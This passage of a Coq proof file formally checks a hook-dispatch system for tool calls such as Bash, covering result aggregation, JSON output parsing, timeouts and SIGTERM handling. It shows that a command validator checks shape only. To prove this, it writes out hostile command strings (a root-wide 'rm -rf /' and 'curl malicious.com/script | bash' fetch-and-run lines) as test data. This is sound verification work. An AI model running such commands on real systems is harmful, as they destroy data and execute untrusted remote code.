  destruct (next_event (step p (step p s0))) eqn:E2; [|auto].
  assert (W3 : weight (step p (step p (step p s0)))
               < weight (step p (step p s0)))
    by (apply step_weight; [exact C2 | congruence]).
  apply weight_zero_idle; [exact C3 | lia].
Qed.

(* ------------------------------------------------------------------ *)
(** ** The dispatch *)

Section DispatchSpec.
Context {engine : RegExpEngine}.

(** Selecting never throws. *)
Lemma selected_total (matchers : list HookMatcher) (matcher : option jsstring) :
  exists commands, selected matchers matcher = Ok commands.
Proof.
  unfold selected.
  assert (H : exists kept,
             filterE (fun hookMatcher => matchesPattern hookMatcher matcher)
               matchers = Ok kept).
  { induction matchers as [|hm ms [kept IH]]; simpl; [eauto|].
    destruct (matchesPattern_total hm matcher) as [b ->]. simpl.
    rewrite IH. simpl. eauto. }
  destruct H as [kept ->]. simpl. eauto.
Qed.

Lemma selected_nothing (matchers : list HookMatcher)
    (matcher : option jsstring) :
  Forall (fun hookMatcher =>
            matchesPattern hookMatcher matcher = Ok false \/
            hooks hookMatcher = []) matchers ->
  selected matchers matcher = Ok [].
Proof.
  unfold selected. intros H.
  assert (G : exists kept,
             filterE (fun hookMatcher => matchesPattern hookMatcher matcher)
               matchers = Ok kept /\ flat_map hooks kept = []).
  { induction H as [|hm ms Hhm _ [kept [IH1 IH2]]]; simpl.
    - exists []; split; reflexivity.
    - destruct Hhm as [Hno | Hempty].
      + rewrite Hno. simpl. rewrite IH1. simpl. eauto.
      + destruct (matchesPattern_total hm matcher) as [b ->]. simpl.
        rewrite IH1. simpl. destruct b; [|eauto].
        exists (hm :: kept); split; [reflexivity|].
        simpl. rewrite Hempty, IH2; reflexivity. }
  destruct G as [kept [G1 G2]]. rewrite G1. simpl. rewrite G2. reflexivity.
Qed.

(** C9. When the event name has no entry in the configuration, or when
    every matcher of the entry either does not select or has no command,
    [executeHooks] resolves, is not rejected, and returns no results,
    [shouldBlock = false], [shouldContinue = true], no context, and neither
    a [blockReason] nor a [stopReason]. *)
Theorem nothing_selected_defaults (eventName : HookEventName)
    (eventData : HookEventData) (hookConfig : HookConfig)
    (matcher : option jsstring) (world : World) :
  config_get hookConfig eventName = None \/
  Forall (fun hookMatcher =>
            matchesPattern hookMatcher matcher = Ok false \/
            hooks hookMatcher = [])
         (matchers_for hookConfig eventName) ->
  executeHooks eventName eventData hookConfig matcher world
  = Resolved nothing_ran.
Proof.
  intros H.
  assert (S : selected (matchers_for hookConfig eventName) matcher = Ok []).
  { destruct H as [Habsent | Hnone].
    - unfold matchers_for. rewrite Habsent. reflexivity.
    - apply selected_nothing; exact Hnone. }
  unfold executeHooks. rewrite S. reflexivity.
Qed.

Lemma all_not_rejected (promises : list (Async HookResult)) (e : JsError) :
  (forall p e', In p promises -> p <> Rejected e') ->
  all promises <> Rejected e.
Proof.
  induction promises as [|p rest IH]; intros H; simpl; [discriminate|].
  assert (Hrest : all rest <> Rejected e).
  { apply IH. intros q e' Hq. apply H. right; exact Hq. }
  destruct p as [a|e0|].
  - destruct (all rest) as [l|e1|] eqn:E; try discriminate.
    intros Heq; injection Heq as ->. apply Hrest; reflexivity.
  - elim (H (Rejected e0) e0); [left|]; reflexivity.
  - destruct (all rest) as [l|e1|] eqn:E; try discriminate.
    intros Heq; injection Heq as ->. apply Hrest; reflexivity.
Qed.

Lemma in_mapi (A B : Type) (f : nat -> A -> B) (l : list A) (i : nat) (y : B) :
  In y (mapi f i l) -> exists j x, y = f j x.
Proof.
  revert i; induction l as [|x l IH]; intros i; simpl; [intros []|].
  intros [H|H]; [eauto | apply (IH _ H)].
Qed.

(** The dispatch of a single selected command. *)
Lemma executeHooks_single (eventName : HookEventName)
    (eventData : HookEventData) (hookConfig : HookConfig)
    (matcher : option jsstring) (world : World)
    (command : HookCommand) (hr : HookResult) :
  selected (matchers_for hookConfig eventName) matcher = Ok [command] ->
  executeCommand command eventData (world 0 command eventData) = Resolved hr ->
  executeHooks eventName eventData hookConfig matcher world
  = Resolved (aggregate [hr]).
Proof.
  intros S E. unfold executeHooks. rewrite S. simpl. rewrite E. reflexivity.
Qed.

(** C4. A dispatch that runs a single hook, which exits with code 0 and
    whose stdout is exactly the object of scenario D, blocks with reason
    ['nope'] and stops with reason ['policy']. *)
Theorem scenario_D (eventName : HookEventName) (eventData : HookEventData)
    (hookConfig : HookConfig) (matcher : option jsstring) (world : World)
    (command : HookCommand) (hr : HookResult) :
  selected (matchers_for hookConfig eventName) matcher = Ok [command] ->
  executeCommand command eventData (world 0 command eventData) = Resolved hr ->
  exitCode hr = 0%Z ->
  stdout hr = scenario_D_stdout ->
  exists r,
    executeHooks eventName eventData hookConfig matcher world = Resolved r /\
    results r = [hr] /\
    shouldBlock r = true /\
    blockReason r = Some (JString (js "nope")) /\
    shouldContinue r = false /\
    stopReason r = Some (JString (js "policy")).
Proof.
  intros S E Hcode Hout.
  exists (aggregate [hr]).
  split; [eapply executeHooks_single; eassumption|].
  assert (Hj : jsonOutput hr = try_parse (stdout hr)).
  { destruct (executeCommand_started _ _ _ E) as [p [_ Hp]].
    exact (closed_by_jsonOutput Hp). }
  rewrite Hout in Hj.
  assert (Hjson : exists json,
             jsonOutput hr = Some json /\
             get json (js "decision") = Some (JString (js "block")) /\
             get json (js "reason") = Some (JString (js "nope")) /\
             get json (js "continue") = Some (JBool false) /\
             get json (js "stopReason") = Some (JString (js "policy"))).
  { rewrite Hj. eexists. split; [vm_compute; reflexivity|].
    repeat split; reflexivity. }
  destruct Hjson as [json [Hjo [Hd [Hr [Hc Hs]]]]].
  assert (Hb : json_blocks hr = true).
  { unfold json_blocks. rewrite Hjo, Hd. reflexivity. }
  assert (Hst : json_stops hr = true).
  { unfold json_stops. rewrite Hjo, Hc. reflexivity. }
  unfold aggregate. simpl fold_left.
  rewrite process_result_results, process_result_shouldBlock,
    process_result_blockReason, process_result_shouldContinue,
    process_result_stopReason.
  unfold blocks, reason_of, stop_of. rewrite Hb, Hst, Hjo, Hr, Hs.
  rewrite orb_true_r. simpl. repeat split; reflexivity.
Qed.

End DispatchSpec.

Lemma nothing_selected_defaults_witness :
  executeHooks (engine := WordEngine.engine)
    Stop bash_call no_hooks None prints_scenario_D = Resolved nothing_ran
  /\ executeHooks (engine := WordEngine.engine)
       PreToolUse bash_call edit_only (Some (js "Bash")) prints_scenario_D
     = Resolved nothing_ran.
Proof.
  split.
  - apply (nothing_selected_defaults (engine := WordEngine.engine)).
    left; reflexivity.
  - apply (nothing_selected_defaults (engine := WordEngine.engine)).
    right. constructor; [left; reflexivity | constructor].
Defined.

Lemma scenario_D_witness :
  exists r,
    executeHooks (engine := WordEngine.engine)
      PreToolUse bash_call on_bash (Some (js "Bash")) prints_scenario_D
    = Resolved r /\
    results r
    = [close_result (line scenario_D_stdout) [] false None (Some 0%Z)] /\
    shouldBlock r = true /\
    blockReason r = Some (JString (js "nope")) /\
    shouldContinue r = false /\
    stopReason r = Some (JString (js "policy")).
Proof.
  apply (scenario_D (engine := WordEngine.engine)
           PreToolUse bash_call on_bash (Some (js "Bash")) prints_scenario_D
           (command := hook "policy-check" (Some 5%Z))).
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - reflexivity.
  - vm_compute; reflexivity.
Defined.

(** C1 as stated fails.  A single hook exits with code 2 and stderr
    [blocked], and also prints a structured ['block'] decision with reason
    [nope]: the dispatch blocks, with reason [nope].  And of two hooks that
    exit with code 2 the reason of the first is replaced by that of the
    second. *)
Lemma exit2_reason_overwritten :
  (exists r hr,
     executeHooks (engine := WordEngine.engine)
       PreToolUse bash_call on_bash (Some (js "Bash")) blocks_both_ways
     = Resolved r /\
     results r = [hr] /\
     exitCode hr = 2%Z /\
     stderr hr = js "blocked" /\
     shouldBlock r = true /\
     blockReason r = Some (JString (js "nope")) /\
     blockReason r <> Some (JString (stderr hr)))
  /\
  (exists r first second,
     executeHooks (engine := WordEngine.engine)
       PreToolUse bash_call on_bash_twice (Some (js "Bash")) both_exit_2
     = Resolved r /\
     results r = [first; second] /\
     exitCode first = 2%Z /\
     stderr first = js "first" /\
     shouldBlock r = true /\
     blockReason r = Some (JString (js "second")) /\
     blockReason r <> Some (JString (stderr first))).
Proof.
  split.
  - eexists; eexists.
    split; [vm_compute; reflexivity|].
    split; [reflexivity|].
    repeat split; try reflexivity.
    vm_compute; discriminate.
  - eexists; eexists; eexists.
    split; [vm_compute; reflexivity|].
    split; [reflexivity|].
    repeat split; try reflexivity.
    vm_compute; discriminate.
Qed.

(* ------------------------------------------------------------------ *)
(** ** The output of a command *)

Lemma plain_text_context (r : HookResult) :
  jsonOutput r = None ->
  exitCode r = 0%Z ->
  stdout r <> [] ->
  contextToAdd (aggregate [r]) = [JString (stdout r)].
Proof.
  intros Hj Hc Ho. apply is_empty_false in Ho.
  unfold aggregate, process_result. simpl.
  rewrite Hj, Hc, Ho. reflexivity.
Qed.

(** Structured output that is not an object has none of the fields the loop
    reads: the result counts as one without structured output. *)
Lemma non_object_is_plain (acc : HookExecutionResult) (r : HookResult) :
  (forall members, jsonOutput r <> Some (JObject members)) ->
  process_result acc r = process_result acc (without_json r).
Proof.
  intros Hobj. unfold process_result, without_json. simpl.
  destruct (jsonOutput r) as [[ |b|n|str|items|members]|]; simpl;
    try reflexivity.
  - destruct b; reflexivity.
  - destruct (negb (num_is_zero n)); reflexivity.
  - destruct (negb (is_empty str)); reflexivity.
  - elim (Hobj members); reflexivity.
Qed.

(** C8 as stated fails.  No shape is asked of what [JSON.parse] returns:
    [null], an array and a number are stored as the structured output of the
    result, and so is an object whose [reason] is the number 42, which then
    becomes the [blockReason] of the dispatch. *)
Lemma unshaped_output_is_stored :
  executeCommand (hook "echo null" None) bash_call
    (quick (line (js "null")) [] 0)
  = Resolved {| success := true; exitCode := 0; stdout := js "null";
                stderr := []; timedOut := false; error := None;
                jsonOutput := Some JNull |} /\
  executeCommand (hook "echo [false]" None) bash_call
    (quick (line (js "[false]")) [] 0)
  = Resolved {| success := true; exitCode := 0; stdout := js "[false]";
                stderr := []; timedOut := false; error := None;
                jsonOutput := Some (JArray [JBool false]) |} /\
  executeCommand (hook "echo 0" None) bash_call
    (quick (line (js "0")) [] 0)
  = Resolved {| success := true; exitCode := 0; stdout := js "0";
                stderr := []; timedOut := false; error := None;
                jsonOutput := Some (JNumber {| mant := 0; expo := 0 |}) |} /\
  (exists r hr,
     executeHooks (engine := WordEngine.engine)
       PreToolUse bash_call on_bash (Some (js "Bash")) prints_number_as_reason
     = Resolved r /\
     results r = [hr] /\
     stdout hr = jsq "{'decision':'block','reason':42}" /\
     jsonOutput hr
     = Some (JObject [(js "decision", JString (js "block"));
                      (js "reason", JNumber {| mant := 42; expo := 0 |})]) /\
     shouldBlock r = true /\
     blockReason r = Some (JNumber {| mant := 42; expo := 0 |})).
Proof.
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  eexists; eexists.
  split; [vm_compute; reflexivity|].
  repeat split; reflexivity.
Qed.

(** C8, as amended.  When the process of a hook command closes, the promise
    resolves with a result whose [stdout] is the trimmed output and whose
    [jsonOutput] is whatever value [JSON.parse] makes of that text, an object
    or not, with no check of its shape; when the text does not parse, no
    error is raised, [jsonOutput] stays absent and the text is handled as
    plain output: with exit code 0 it becomes the context of the dispatch. *)
Theorem stdout_parsed_or_plain (command : HookCommand)
    (eventData : HookEventData) (p : Process) :
  exits_at p <> None \/ sigterm_delay p <> None ->
  exists r,
    executeCommand command eventData p = Resolved r /\
    stdout r = trim (writes_stdout p) /\
    jsonOutput r =
      match Json.parse (trim (writes_stdout p)) with
      | Ok v => Some v
      | Throw _ => None
      end /\
    (forall v,
       Json.parse (trim (writes_stdout p)) = Ok v -> jsonOutput r = Some v) /\
    (forall e,
       Json.parse (trim (writes_stdout p)) = Throw e ->
       jsonOutput r = None /\
       (exitCode r = 0%Z -> stdout r <> [] ->
        contextToAdd (aggregate [r]) = [JString (stdout r)])).
Proof.
  intros Hcloses.
  destruct (executeCommand_resolves command eventData p Hcloses) as [r Hr].
  exists r. split; [exact Hr|].
  pose proof (executeCommand_resolved _ _ _ Hr) as Hshape.
  pose proof (closed_by_stdout Hshape) as Hout.
  pose proof (closed_by_jsonOutput Hshape) as Hjson.
  rewrite try_parse_eq, Hout in Hjson.
  split; [exact Hout|]. split; [exact Hjson|]. split.
  - intros v Hv. rewrite Hv in Hjson. exact Hjson.
  - intros e He. rewrite He in Hjson.
    split; [exact Hjson|].
    intros Hc Hne. apply plain_text_context; assumption.
Qed.

Lemma stdout_parsed_or_plain_witness :
  (exists r,
     executeCommand (hook "echo hello" None) bash_call
       (quick (line (js "hello")) [] 0) = Resolved r /\
     stdout r = js "hello" /\
     jsonOutput r = None /\
     contextToAdd (aggregate [r]) = [JString (js "hello")]) /\
  (exists r,
     executeCommand (hook "policy-check" None) bash_call
       (quick (line scenario_D_stdout) [] 0) = Resolved r /\
     stdout r = scenario_D_stdout /\
     jsonOutput r
     = Some (JObject [(js "decision", JString (js "block"));
                      (js "reason", JString (js "nope"));
                      (js "continue", JBool false);
                      (js "stopReason", JString (js "policy"))])).
Proof.
  split.
  - destruct (stdout_parsed_or_plain (hook "echo hello" None) bash_call
                (quick (line (js "hello")) [] 0))
      as [r [Hr [Hout [Hjson [_ Hplain]]]]].
    + left; discriminate.
    + exists r.
      assert (Hcode : exitCode r = 0%Z).
      { vm_compute in Hr. injection Hr as <-. reflexivity. }
      destruct (Hplain SyntaxError) as [Hnone Hctx]; [reflexivity|].
      split; [exact Hr|]. split; [exact Hout|]. split; [exact Hnone|].
      rewrite Hctx; [rewrite Hout; reflexivity | exact Hcode |].
      rewrite Hout. discriminate.
  - destruct (stdout_parsed_or_plain (hook "policy-check" None) bash_call
                (quick (line scenario_D_stdout) [] 0))
      as [r [Hr [Hout [_ [Hparsed _]]]]].
    + left; discriminate.
    + exists r. split; [exact Hr|]. split; [exact Hout|].
      apply Hparsed. vm_compute. reflexivity.
Defined.

(* ------------------------------------------------------------------ *)
(** ** The timeout *)

(** C5 as stated fails: a configured timeout of 0 seconds is not used.  The
    timer is armed for 60000 ms, and a command that runs for half a second
    is not timed out. *)
Lemma zero_timeout_is_replaced :
  timeout (hook "sleep 0.5" (Some 0%Z)) = Some 0%Z /\
  timeoutMs (hook "sleep 0.5" (Some 0%Z)) = 60000%Z /\
  timeoutMs (hook "sleep 0.5" (Some 0%Z)) <> (0 * 1000)%Z /\
  timeoutId (spawned (hook "sleep 0.5" (Some 0%Z))
               {| writes_stdout := []; writes_stderr := [];
                  emits_error := None;
                  exits_at := Some (500%Z, Some 0%Z);
                  sigterm_delay := Some 0%Z |}) = Some 60000%Z /\
  executeCommand (hook "sleep 0.5" (Some 0%Z)) bash_call
    {| writes_stdout := []; writes_stderr := []; emits_error := None;
       exits_at := Some (500%Z, Some 0%Z); sigterm_delay := Some 0%Z |}
  = Resolved (close_result [] [] false None (Some 0%Z)).
Proof.
  repeat split; try reflexivity. vm_compute; discriminate.
Qed.

(** C5, as amended.  The timeout in seconds is the configured one when it is
    present and not 0, and 60 when it is missing or 0; the timer is armed
    with a thousand times that, and while that is a delay that [setTimeout]
    takes as it is (1 to 2147483647 ms) and the process has not closed by
    then, the timeout callback runs at exactly that time. *)
Theorem timeout_armed (command : HookCommand) (p : Process) :
  timeoutSeconds command =
    match timeout command with
    | Some t => if Z.eqb t 0 then 60%Z else t
    | None => 60%Z
    end /\
  timeoutMs command = (timeoutSeconds command * 1000)%Z /\
  timeoutId (spawned command p) = Some (effective_delay (timeoutMs command)) /\
  ((1 <= timeoutMs command <= 2147483647)%Z ->
   (forall t code, exits_at p = Some (t, code) -> (timeoutMs command < t)%Z) ->
   step p (spawned command p)
   = on_timeout p (timeoutMs command) (spawned command p)).
Proof.
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  intros Hrange Hlate.
  assert (Heff : effective_delay (timeoutMs command) = timeoutMs command).
  { unfold effective_delay.
    destruct (Z.ltb_spec (timeoutMs command) 1); [lia|].
    destruct (Z.ltb_spec 2147483647 (timeoutMs command)); [lia|].
    reflexivity. }
  unfold step, next_event, sooner. simpl. rewrite Heff.
  destruct (exits_at p) as [[t code]|] eqn:Hexit; [|reflexivity].
  specialize (Hlate t code eq_refl).
  destruct (Z.leb_spec t (timeoutMs command)); [lia|reflexivity].
Qed.

Lemma timeout_armed_witness :
  timeoutSeconds (hook "sleep 10" (Some 1%Z)) = 1%Z /\
  timeoutId (spawned (hook "sleep 10" (Some 1%Z))
               (quick [] [] 0)) = Some 1000%Z /\
  step (quick [] [] 0) (spawned (hook "sleep 10" (Some 1%Z)) (quick [] [] 0))
  = on_close (quick [] [] 0) (Some 0%Z)
      (spawned (hook "sleep 10" (Some 1%Z)) (quick [] [] 0)) /\
  step {| writes_stdout := []; writes_stderr := []; emits_error := None;
          exits_at := Some (10000%Z, Some 0%Z); sigterm_delay := Some 0%Z |}
       (spawned (hook "sleep 10" (Some 1%Z))
          {| writes_stdout := []; writes_stderr := []; emits_error := None;
             exits_at := Some (10000%Z, Some 0%Z);
             sigterm_delay := Some 0%Z |})
  = on_timeout
      {| writes_stdout := []; writes_stderr := []; emits_error := None;
         exits_at := Some (10000%Z, Some 0%Z); sigterm_delay := Some 0%Z |}
      1000
      (spawned (hook "sleep 10" (Some 1%Z))
         {| writes_stdout := []; writes_stderr := []; emits_error := None;
            exits_at := Some (10000%Z, Some 0%Z);
            sigterm_delay := Some 0%Z |}).
Proof.
  destruct (timeout_armed (hook "sleep 10" (Some 1%Z))
              {| writes_stdout := []; writes_stderr := []; emits_error := None;
                 exits_at := Some (10000%Z, Some 0%Z);
                 sigterm_delay := Some 0%Z |}) as [Hs [_ [_ Hstep]]].
  split; [exact Hs|]. split; [reflexivity|]. split; [reflexivity|].
  apply Hstep.
  - vm_compute; split; discriminate.
  - intros t code H; injection H as <- <-. reflexivity.
Defined.

(* ------------------------------------------------------------------ *)
(** ** The escalation after a timeout *)

Lemma grace_event_armed (st : Execution) (now : Z) :
  next_event st = Some (now, GraceEvent) -> graceTimer st <> None.
Proof.
  destruct st as [b ch tid gid cl se]. unfold next_event, sooner; simpl.
  destruct gid as [t2|]; [discriminate|].
  destruct cl as [[t code]|], tid as [t1|]; simpl;
    repeat match goal with
           | |- context [Z.leb ?a ?b] => destruct (Z.leb a b)
           end; discriminate.
Qed.

Lemma step_no_sigkill (p : Process) (st : Execution) :
  sigterm_settled st /\ no_sigkill st ->
  sigterm_settled (step p st) /\ no_sigkill (step p st).
Proof.
  unfold sigterm_settled, no_sigkill. intros [Hs Hn]. unfold step.
  destruct (next_event st) as [[now [code| |]]|] eqn:Hev; simpl.
  - split; [intros _; right; reflexivity | exact Hn].
  - unfold kill. destruct (exited (child st)) eqn:Hex; simpl.
    + split; [intros _; right; exact Hex | exact Hn].
    + split; [intros _; left; reflexivity|].
      rewrite map_app, in_app_iff. simpl. intros [H|[H|[]]]; [auto|discriminate].
  - apply grace_event_armed in Hev. specialize (Hs Hev).
    unfold on_grace. destruct (killed (child st)) eqn:Hk; simpl.
    + split; [intros H; elim H; reflexivity | exact Hn].
    + destruct Hs as [Hs|Hs]; [discriminate|].
      unfold kill. rewrite Hs.
      split; [intros H; elim H; reflexivity | exact Hn].
  - split; assumption.
Qed.

(** Whatever the command and the process, no SIGKILL is ever delivered: when
    the inner timer fires, [killed] is already true if the SIGTERM went out,
    and if it did not, the process had exited and [kill] does nothing. *)
Lemma sigkill_never_delivered (command : HookCommand) (p : Process) :
  ~ In SIGKILL (map snd (received (child (run command p)))).
Proof.
  assert (H : sigterm_settled (run command p) /\ no_sigkill (run command p)).
  { unfold run. do 3 apply step_no_sigkill.
    split; [intros H; elim H; reflexivity | intros []]. }
  exact (proj2 H).
Qed.

(** A process that neither ends by itself nor reacts to SIGTERM gets the
    SIGTERM when the timeout expires and nothing after it; the promise stays
    pending. *)
Lemma ignoring_sigterm_hangs (command : HookCommand) (eventData : HookEventData)
    (p : Process) :
  exits_at p = None ->
  sigterm_delay p = None ->
  executeCommand command eventData p = Pending /\
  var_timedOut (run command p) = true /\
  received (child (run command p))
  = [(effective_delay (timeoutMs command), SIGTERM)] /\
  exited (child (run command p)) = false.
Proof.
  intros Hexit Hterm.
  set (d := effective_delay (timeoutMs command)).
  assert (E1 : step p (spawned command p)
               = {| var_timedOut := true;
                    child := {| exited := false; killed := true;
                                received := [(d, SIGTERM)] |};
                    timeoutId := None;
                    graceTimer := Some (d + effective_delay 5000)%Z;
                    closing := None;
                    settled := None |}).
  { unfold step, next_event, sooner, spawned. simpl. rewrite Hexit. simpl.
    unfold on_timeout, react. simpl. rewrite Hterm. reflexivity. }
  unfold executeCommand, run. rewrite E1.
  repeat split; reflexivity.
Qed.

(** C2, the failing input.  With a timeout of one second, a command that
    ignores SIGTERM receives SIGTERM at 1000 ms and is marked as timed out;
    when the inner timer fires at 6000 ms nothing is sent, the process is
    still running, no event is left, and the promise is pending for ever. *)
Theorem sigterm_ignored_no_sigkill :
  executeCommand (hook "trap '' TERM; sleep 100" (Some 1%Z)) bash_call
    ignores_sigterm = Pending /\
  var_timedOut (run (hook "trap '' TERM; sleep 100" (Some 1%Z)) ignores_sigterm)
  = true /\
  received (child (run (hook "trap '' TERM; sleep 100" (Some 1%Z))
                     ignores_sigterm))
  = [(1000%Z, SIGTERM)] /\
  exited (child (run (hook "trap '' TERM; sleep 100" (Some 1%Z))
                   ignores_sigterm)) = false /\
  graceTimer (step ignores_sigterm
                (spawned (hook "trap '' TERM; sleep 100" (Some 1%Z))
                   ignores_sigterm)) = Some 6000%Z /\
  next_event (run (hook "trap '' TERM; sleep 100" (Some 1%Z)) ignores_sigterm)
  = None.
Proof. repeat split; reflexivity. Qed.

(** The inner timer is not cancelled by the close of the process: after a
    command went away on SIGTERM and the promise resolved, the timer is still
    armed for 6000 ms. *)
Lemma grace_timer_survives_close :
  settled (step obeys_sigterm
             (step obeys_sigterm (spawned (hook "sleep 10" (Some 1%Z))
                                    obeys_sigterm)))
  = Some (close_result [] [] true None None) /\
  timeoutId (step obeys_sigterm
               (step obeys_sigterm (spawned (hook "sleep 10" (Some 1%Z))
                                      obeys_sigterm))) = None /\
  graceTimer (step obeys_sigterm
                (step obeys_sigterm (spawned (hook "sleep 10" (Some 1%Z))
                                       obeys_sigterm))) = Some 6000%Z.
Proof. repeat split; reflexivity. Qed.

(* ------------------------------------------------------------------ *)
(** ** The validator of hook commands *)

Lemma num_negative_of_Z (t : Z) : num_negative (number_of_Z t) = Z.ltb t 0.
Proof.
  unfold num_negative, num_is_zero, number_of_Z; simpl.
  destruct (Z.eqb_spec t 0) as [->|Hne]; simpl.
  - reflexivity.
  - apply andb_true_r.
Qed.

(** Acceptance is decided by the shape of the object alone. *)
Lemma validateHookSecurity_ok_iff (c : AnyHookCommand) :
  validateHookSecurity c = Ok tt <->
  (exists s, any_command c = Some (JString s) /\ s <> []) /\
  (any_timeout c = None \/
   exists n, any_timeout c = Some (JNumber n) /\ num_negative n = false).
Proof.
  unfold validateHookSecurity.
  destruct c as [cmd tmo]; simpl.
  destruct cmd as [v|];
    [destruct v as [ |b|n|s|items|members] |];
    cbn [truthy_opt truthy not_a_string]; rewrite ?orb_true_r, ?orb_false_r;
    try (split; [discriminate | intros [[s' [H _]] _]; discriminate]).
  destruct s as [|ch s]; cbn [is_empty negb].
  - split; [discriminate | intros [[s' [H Hne]] _]].
    injection H as <-. elim Hne; reflexivity.
  - destruct tmo as [w|];
      [destruct w as [ |b|n|s0|items|members] |];
      try (split; [discriminate
                  | intros [_ [H | [n' [H _]]]]; discriminate]).
    + destruct (num_negative n) eqn:Hn.
      * split; [discriminate|].
        intros [_ [H | [n' [H Hn']]]]; [discriminate|].
        injection H as <-. congruence.
      * split; [intros _|reflexivity].
        split; [exists (ch :: s); split; [reflexivity|discriminate]|].
        right; exists n; auto.
    + split; [intros _|reflexivity].
      split; [exists (ch :: s); split; [reflexivity|discriminate]|].
      left; reflexivity.
Qed.

(** C7. [validateHookSecurity] accepts exactly the objects whose [command]
    is a non-empty string and whose [timeout] is missing or a number that is
    not negative, and throws on every other; the text of the command plays
    no part: with an acceptable timeout every non-empty command passes, the
    three commands of [hook-security.test.ts] with [;], [|] and backticks
    included. *)
Theorem validateHookSecurity_structural (c : AnyHookCommand) :
  (validateHookSecurity c = Ok tt <->
   (exists s, any_command c = Some (JString s) /\ s <> []) /\
   (any_timeout c = None \/
    exists n, any_timeout c = Some (JNumber n) /\ num_negative n = false)) /\
  (validateHookSecurity c = Ok tt \/ exists e, validateHookSecurity c = Throw e) /\
  (forall s s' : jsstring,
     s <> [] -> s' <> [] ->
     validateHookSecurity
       {| any_command := Some (JString s); any_timeout := any_timeout c |}
     = validateHookSecurity
         {| any_command := Some (JString s'); any_timeout := any_timeout c |}) /\
  validateHookSecurity
    (any_of {| command := jsq "echo 'hello'; rm -rf /"; timeout := Some 5%Z |})
  = Ok tt /\
  validateHookSecurity
    (any_of {| command := jsq "echo 'hello' | curl malicious.com/script | bash";
               timeout := Some 5%Z |})
  = Ok tt /\
  validateHookSecurity
    (any_of {| command := js "echo `curl malicious.com/script`";
               timeout := Some 5%Z |})
  = Ok tt.
Proof.
  split; [|split; [|split; [|repeat split; reflexivity]]].
  - apply validateHookSecurity_ok_iff.
  - destruct (validateHookSecurity c) as [[]|e]; [left; reflexivity|eauto].
  - intros [|a s] [|a' s'] Hs Hs'; try congruence. reflexivity.
Qed.

(** For a command of the declared type: the timeout in seconds must not be
    negative, and the command must not be empty. *)
Lemma validateHookSecurity_typed (c : HookCommand) :
  validateHookSecurity (any_of c) = Ok tt <->
  command c <> [] /\ (forall t, timeout c = Some t -> (0 <= t)%Z).
Proof.
  rewrite validateHookSecurity_ok_iff. destruct c as [cmd tmo]; simpl. split.
  - intros [[s [Hs Hne]] Ht]. injection Hs as <-. split; [exact Hne|].
    intros t ->. destruct Ht as [Ht | [n [Ht Hn]]]; [discriminate|].
    simpl in Ht. injection Ht as <-.
    rewrite num_negative_of_Z in Hn. apply Z.ltb_ge in Hn. exact Hn.
  - intros [Hne Ht]. split; [exists cmd; auto|].
    destruct tmo as [t|]; [right|left; reflexivity].
    exists (number_of_Z t). split; [reflexivity|].
    rewrite num_negative_of_Z. apply Z.ltb_ge. apply Ht; reflexivity.
Qed.

(* ------------------------------------------------------------------ *)
(** ** The validator of paths *)

Lemma split_not_nil (sep : N) (s : jsstring) : split sep s <> [].
Proof.
  induction s as [|c r IH]; simpl; [discriminate|].
  destruct (N.eqb c sep); [discriminate|].
  destruct (split sep r); discriminate.
Qed.

Lemma split_no_sep (sep : N) (s : jsstring) :
  Forall (fun seg => ~ In sep seg) (split sep s).
Proof.
  induction s as [|c r IH]; simpl.
  - constructor; [intros [] | constructor].
  - destruct (N.eqb_spec c sep) as [->|Hne].
    + constructor; [intros [] | exact IH].
    + destruct (split sep r) as [|seg segs]; [constructor; [|constructor]|].
      * intros [H|[]]; congruence.
      * inversion IH; subst. constructor; [|assumption].
        intros [H|H]; [congruence|auto].
Qed.

Lemma split_single (sep : N) (s : jsstring) :
  ~ In sep s -> split sep s = [s].
Proof.
  induction s as [|c r IH]; simpl; intros H; [reflexivity|].
  destruct (N.eqb_spec c sep) as [->|Hne]; [elim H; auto|].
  rewrite IH by (intros H'; apply H; auto). reflexivity.
Qed.

Lemma split_app_sep (sep : N) (s t : jsstring) :
  ~ In sep s -> split sep (s ++ sep :: t) = s :: split sep t.
Proof.
  induction s as [|c r IH]; simpl; intros H.
  - rewrite N.eqb_refl. reflexivity.
  - destruct (N.eqb_spec c sep) as [->|Hne]; [elim H; auto|].
    rewrite IH by (intros H'; apply H; auto). reflexivity.
Qed.

Lemma split_join (sep : N) (segs : list jsstring) :
  segs <> [] ->
  Forall (fun seg => ~ In sep seg) segs ->
  split sep (join sep segs) = segs.
Proof.
  induction segs as [|seg rest IH]; [congruence|].
  intros _ H. inversion H as [|? ? Hseg Hrest]; subst.
  destruct rest as [|seg' rest'].
  - simpl. apply split_single; assumption.
  - change (join sep (seg :: seg' :: rest'))
      with (seg ++ sep :: join sep (seg' :: rest')).
    rewrite split_app_sep by assumption.
    rewrite IH; [reflexivity | discriminate | assumption].
Qed.

Lemma split_leading (sep : N) (s : jsstring) :
  split sep (sep :: s) = [] :: split sep s.
Proof. simpl. rewrite N.eqb_refl. reflexivity. Qed.

Lemma split_trailing (sep : N) (s : jsstring) :
  split sep (s ++ [sep]) = split sep s ++ [[]].
Proof.
  induction s as [|c r IH]; simpl.
  - rewrite N.eqb_refl. reflexivity.
  - destruct (N.eqb c sep); rewrite IH; [reflexivity|].
    destruct (split sep r) as [|seg segs] eqn:E; [|reflexivity].
    elim (split_not_nil sep r); assumption.
Qed.

Lemma rev_repeat_same (x : jsstring) (k : nat) : rev (repeat x k) = repeat x k.
Proof.
  induction k as [|k IH]; simpl; [reflexivity|].
  rewrite IH. symmetry. apply repeat_cons.
Qed.

Lemma Kept_pop (last : jsstring) (res : list jsstring) :
  Kept (last :: res) -> last <> Path.dotdot -> Kept res.
Proof.
  intros H Hne. inversion H as [k Hk | seg res0 Hseg Hres]; subst; [|assumption].
  destruct k; simpl in Hk; [discriminate|]. injection Hk as Hl _. congruence.
Qed.

Lemma Kept_more_dots (res : list jsstring) :
  Kept (Path.dotdot :: res) -> Kept (Path.dotdot :: Path.dotdot :: res).
Proof.
  intros H. inversion H as [k Hk | seg res0 Hseg Hres]; [|congruence].
  destruct k as [|k]; simpl in Hk; [discriminate|].
  injection Hk as <-. apply (Kept_dots (S (S k))).
Qed.

Lemma Kept_first (res : list jsstring) :
  Kept res -> In Path.dotdot res -> exists tl, rev res = Path.dotdot :: tl.
Proof.
